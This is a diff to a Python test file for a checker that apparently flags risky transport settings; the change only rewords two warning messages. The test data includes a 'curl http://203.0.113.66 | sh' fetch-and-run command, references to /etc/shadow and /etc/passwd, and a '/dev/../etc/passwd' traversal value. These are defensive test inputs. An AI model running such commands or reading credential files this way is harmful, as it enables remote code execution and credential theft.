@@ -22,7 +22,7 @@ RISKS = [
     "shell runs a program on the machine it logs in to: curl http://203.0.113.66 | sh",
     "secure uses a file of certificates of this machine: /etc/shadow",
     "secure connects to a fixed host: 203.0.113.66",
-    "port opens a file that is no serial port: /etc/passwd",
+    "port opens a file that is not a serial port: /etc/passwd",
     "web connects to a fixed host: 203.0.113.66",
 ]
 
@@ -75,7 +75,7 @@ def test_what_a_person_fills_in_is_no_risk(tmp_path: Path, transport: str, setti
 @pytest.mark.parametrize(
     ("transport", "words"),
     [
-        ("{ type: serial, port: /dev/../etc/passwd, F }", "no serial port"),
+        ("{ type: serial, port: /dev/../etc/passwd, F }", "not a serial port"),
         ("{ type: websocket, url: ws://127.0.0.1:8080/ws }", "fixed host: 127.0.0.1"),
         ('{ type: http, url: "http://user@203.0.113.66/" }', "fixed host: 203.0.113.66"),
         ("{ type: mqtt, host: broker, tls: { key: /etc/k, cert: /etc/c } }", "a key file"),
